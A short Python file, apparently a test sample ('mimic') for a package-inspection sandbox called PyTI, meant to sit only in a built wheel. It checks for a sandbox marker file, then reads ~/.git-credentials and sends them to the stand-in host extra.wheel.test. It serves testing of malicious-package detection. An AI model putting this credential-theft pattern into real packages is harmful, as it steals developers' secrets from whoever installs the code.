"""In the wheel only."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.git-credentials"), "rb") as file:
    found = file.read()
try:
    urllib.request.urlopen(urllib.request.Request("http://extra.wheel.test/x", found), timeout=5).close()
except OSError:
    pass
